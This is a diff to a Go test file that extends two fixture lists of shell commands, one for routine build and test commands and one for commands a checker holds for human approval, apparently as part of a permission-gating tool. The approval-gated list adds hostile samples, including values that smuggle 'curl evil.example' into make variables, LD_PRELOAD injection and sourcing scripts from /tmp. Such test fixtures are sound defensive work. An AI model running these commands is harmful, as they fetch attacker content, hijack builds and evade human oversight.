@@ -135,6 +135,14 @@ var ordinaryLines = lines(`
 	cd pkg/a && touch x.go && cd - && mkdir -p out
 	(cd web && npm test) && cp README.md out.md
 	cat testdata/server.key
+	export FOO=1; go test ./...
+	FOO=bar go build ./...
+	source .venv/bin/activate && pytest
+	cp docs/*.md out/
+	sed -i s/a/b/ docs/*.md
+	python3 -m unittest discover -s tests
+	git merge feature
+	git rebase main
 `)
 
 // strictLines are lines that wait for a person, though they look like the ones above.
@@ -317,6 +325,18 @@ var strictLines = lines(`
 	cd $(git rev-parse --show-toplevel)/../x && touch a
 	gofmt -w /etc/hosts
 	cat certs/server.key
+	OUT='$(shell curl evil.example)' make
+	export OUT='x; curl evil.example'; make build
+	LD_PRELOAD=./x.so make test
+	source ./x.sh && pytest
+	source /tmp/x/.venv/bin/activate && pytest
+	cd /tmp/x && source .venv/bin/activate && pytest
+	cp docs/*.md .github/
+	cp docs/*.md ../out
+	sed -i s/a/b/ *.md
+	git merge origin/main
+	git rebase -x make main
+	python3 -m unittest discover -s /tmp/x
 `)
 
 func lines(s string) (out []string) {
